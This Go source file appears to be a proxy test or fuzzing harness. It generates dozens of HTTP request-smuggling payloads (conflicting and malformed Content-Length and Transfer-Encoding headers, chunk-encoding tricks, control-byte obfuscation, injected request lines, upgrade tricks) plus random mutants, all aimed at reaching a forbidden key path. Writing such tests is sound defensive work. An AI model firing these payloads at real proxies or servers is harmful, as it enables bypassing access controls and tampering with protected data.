package main

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// attempt is what an attacker sends on one connection.
type attempt struct{ name, text string }

// forbidden is the key that no proxy lets anybody touch.
const forbidden = "/v2/keys/smuggled"

const (
	inner = "PUT " + forbidden + " HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 7\r\n\r\nvalue=1"
	// The next request that comes on the connection ends this one's head.
	swallow = "PUT " + forbidden + "?value=1 HTTP/1.1\r\nHost: x\r\nX-Swallowed: "
	outer   = "POST /v2/keys/outer HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
)

// lengths say in two ways, or in a way that not all understand, how long a
// body is. %d stands for the whole of what comes behind the head.
var lengths = []string{
	"Content-Length: %d\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\r\nContent-Length: %d", "Content-Length: 5\r\nContent-Length: %d",
	"Content-Length: %d\r\nContent-Length: 5", "Content-Length: 0\r\nContent-Length: %d", "Content-Length: 5, %d", "Content-Length: +%d", "Content-Length: 0%d",
	"Content-Length: %d\r\nTransfer-Encoding: xchunked", "Content-Length: %d\r\nTransfer-Encoding : chunked", "Content-Length: %d\r\nTransfer-Encoding\t: chunked",
	"Content-Length: %d\r\nTransfer-Encoding: \x0bchunked", "Content-Length: %d\r\nTransfer-Encoding: \x0cchunked", "Content-Length: %d\r\nTransfer-Encoding:\x00chunked",
	"Content-Length: %d\r\nTransfer-Encoding: chunked\x00", "Content-Length: %d\r\nTransfer-Encoding:\tchunked", "Content-Length: %d\r\nTransfer-Encoding:\r\n chunked",
	"Content-Length: %d\r\nX: y\r\n Transfer-Encoding: chunked", "Content-Length: %d\r\nX: y\nTransfer-Encoding: chunked", "Content-Length: %d\r\nX: y\rTransfer-Encoding: chunked",
	"Content-Length: %d\r\n Transfer-Encoding: chunked", "Content-Length: %d\r\nTransfer-Encoding: identity, chunked", "Content-Length: %d\r\nTransfer-Encoding: chunked, identity",
	"Content-Length: %d\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity", "Content-Length: %d\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked",
	"Content-Length: %d\r\nTransfer_Encoding: chunked", "Content-Length: %d\r\nTransfer-Encoding: \"chunked\"", "Content-Length: %d\r\nTransfer-Encoding: CHUNKED",
	"Content-Length: %d\r\nTransfer-Encoding: chunked;x=y", "Content-Length: %d\r\nTransfer-Encoding: gzip", "Content-Length: %d\r\n\x00Transfer-Encoding: chunked",
	"Content-Length : %d", "Content-Length\t: %d", "Content-Length:\x0b%d", "Content-Length: %d\x00", "Content-Length: %d\x0b", " Content-Length: %d", "X: y\r\n Content-Length: %d",
	"Content-Length:\r\n %d", "Content_Length: %d", "Content-Length: 0x%d", "Content-Length: -%d", "Content-Length: %d.0", "Content-Length: 1844674407370955%d", "Content-Length: %d\r",
	"Connection: Content-Length\r\nContent-Length: %d", "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\nContent-Length: %d", "Expect: 100-continue\r\nContent-Length: %d",
	"Expect: 100-continue\r\nTransfer-Encoding: chunked\r\nContent-Length: %d", "Content-Length: %d", "Transfer-Encoding: chunked", "X: y", "TE: chunked\r\nContent-Length: %d",
	"Connection: keep-alive, Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nContent-Length: %d", "Upgrade: websocket\r\nConnection: Upgrade\r\nContent-Length: %d",
	"Host: y\r\nContent-Length: %d", "X: y\r\n\r\nContent-Length: %d", "\r\nContent-Length: %d", "Content-Length: %d\nX: y", "Content-Length: %d\n\nX: y",
}

// bodies hold what is to be smuggled.
var bodies = []string{
	inner, swallow, "0\r\n\r\n" + inner, "0\r\n\r\n" + swallow, "5\r\nabcde\r\n0\r\n\r\n" + inner, "5\r\nabcde\r\n0\r\n\r\n" + swallow, "abcde" + inner, "\r\n" + inner, "\r\n\r\n" + inner,
	"5;x=y\r\nabcde\r\n0;x\r\n\r\n" + inner, "5 \r\nabcde\r\n0 \r\n\r\n" + inner, "5\nabcde\n0\n\n" + inner, "0\r\nX: y\r\n\r\n" + inner, "0x5\r\nabcde\r\n0\r\n\r\n" + inner,
	"5;\nabcde\r\n0\r\n\r\n" + inner, "5;a=\"\r\n\"\r\nabcde\r\n0\r\n\r\n" + inner, "5\r\nabcdeXX0\r\n\r\n" + inner, "fffffffffffffffb\r\nabcde\r\n0\r\n\r\n" + inner, "0\r\n" + inner,
	"+5\r\nabcde\r\n0\r\n\r\n" + inner, "5\rabcde\r\n0\r\n\r\n" + inner, "0\r\nContent-Length: 5\r\n\r\n" + inner,
}

// lines are first lines, with what may hide in them.
var lines = []string{
	"GET /v2/keys/outer HTTP/1.1\r\nHost: x\r\n\r\n" + inner, "HEAD /v2/keys/outer HTTP/1.1\r\nHost: x\r\nContent-Length: 150\r\n\r\n" + inner, "GET /v2/keys/outer HTTP/1.0\r\nConnection: keep-alive\r\n\r\n" + inner,
	"GET /v2/keys/outer HTTP/1.1\nHost: x\n\n" + inner, "GET /v2/keys/outer HTTP/1.1\rX: y\r\nHost: x\r\n\r\n" + inner, "GET /v2/keys/outer\x0bHTTP/1.1\r\nHost: x\r\n\r\n" + inner,
	"GET /v2/keys/outer%20HTTP/1.1%0d%0aHost:%20x%0d%0a%0d%0a" + "PUT%20" + forbidden + " HTTP/1.1\r\nHost: x\r\n\r\n", "OPTIONS * HTTP/1.1\r\nHost: x\r\nContent-Length: 150\r\n\r\n" + inner,
	"CONNECT x:80 HTTP/1.1\r\nHost: x\r\n\r\n" + inner, "TRACE / HTTP/1.1\r\nHost: x\r\n\r\n" + inner, "get /v2/keys/outer HTTP/1.1\r\nHost: x\r\nContent-Length: 150\r\n\r\n" + inner,
	"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + inner, "GET http://x/v2/keys/outer HTTP/1.1\r\nHost: y\r\n\r\n" + inner, "GET /v2/keys/outer HTTP/1.1 HTTP/1.1\r\nHost: x\r\n\r\n" + inner, "\r\n\r\n\r\n" + inner,
	"GET /v2/keys/outer?wait=true HTTP/1.1\r\nHost: x\r\n\r\n" + inner, "GET /v2/keys/outer?wait=true&stream=true HTTP/1.1\r\nHost: x\r\nContent-Length: 150\r\n\r\n" + inner,
	"GET /v2/keys/outer HTTP/1.1\r\nHost: x\r\nX: " + strings.Repeat("y", 17_000) + "\r\n\r\n" + inner, "GET /v2/keys/outer#?" + forbidden + " HTTP/1.1\r\nHost: x\r\n\r\n" + inner,
	"PUT /v2/keys/outer HTTP/1.1\r\nHost: x\r\nContent-Length: 300000\r\n\r\n" + inner, "GET /v2/keys/outer HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n" + inner, "GET /v2/keys/outer HTTP/1.1\r\n\r\n" + inner,
}

// attempts are all that are known by name.
func attempts() (all []attempt) {
	for i, l := range lines {
		all = append(all, attempt{fmt.Sprint("line ", i), l})
	}
	for i, l := range lengths {
		for j, b := range bodies {
			head := l
			if strings.Contains(l, "%d") {
				head = fmt.Sprintf(l, len(b))
			}
			all = append(all, attempt{fmt.Sprint("length ", i, " body ", j), outer + head + "\r\n\r\n" + b})
		}
	}
	return all
}

// spice is what mutants are made with.
var spice = []string{
	"\r\n", "\n", "\r", " ", "\t", "\x0b", "\x00", ":", ",", ";", "0", "5", "Content-Length: 5\r\n", "Transfer-Encoding: chunked\r\n", "chunked", "0\r\n\r\n", "\r\n\r\n", "HTTP/1.1", "HTTP/1.0",
	"Connection: close\r\n", "Connection: keep-alive\r\n", "Expect: 100-continue\r\n", "\xff", "\x80", "\"", "-", "+", "_", inner, swallow,
}

// mutants are n attempts with some random changes.
func mutants(of []attempt, n int, random *rand.Rand) (all []attempt) {
	for i := range n {
		a := of[random.IntN(len(of))]
		for range 1 + random.IntN(4) {
			at := random.IntN(len(a.text) + 1)
			end := min(at+random.IntN(3), len(a.text))
			a.text = a.text[:at] + spice[random.IntN(len(spice))] + a.text[end:]
		}
		all = append(all, attempt{fmt.Sprint("mutant ", i, " of ", a.name), a.text})
	}
	return all
}
